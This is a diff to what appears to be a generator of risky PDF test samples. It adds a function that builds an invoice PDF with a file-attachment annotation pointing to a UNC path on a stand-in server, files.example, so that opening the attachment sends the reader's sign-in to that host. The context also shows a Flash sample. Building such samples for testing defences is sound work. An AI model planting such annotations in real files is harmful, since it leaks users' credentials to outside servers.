@@ -151,6 +151,15 @@ def sound() -> bytes:
     )
 
 
+def attachment_elsewhere() -> bytes:
+    """An attachment that is a path on somebody's server (12.5.6.15, 7.11.2): opening it signs the reader in there."""
+    return invoice_with(
+        b"<< /Type /Annot /Subtype /FileAttachment /Rect [500 300 520 320] /F 4 /Name /PushPin "
+        b"/FS (\\\\\\\\files.example\\\\invoices\\\\terms.docx) >>",
+        page=b"/Annots [10 0 R]",
+    )
+
+
 def rich_media() -> bytes:
     """Flash on the page (Adobe Supplement to ISO 32000, Extension Level 3, 9.6)."""
     flash = b"FWS\x09\x2b\x00\x00\x00\x78\x00\x05\x5f\x00\x00\x0f\xa0\x00\x00\x0c\x01\x00\x44\x11\x08\x00\x00\x00"
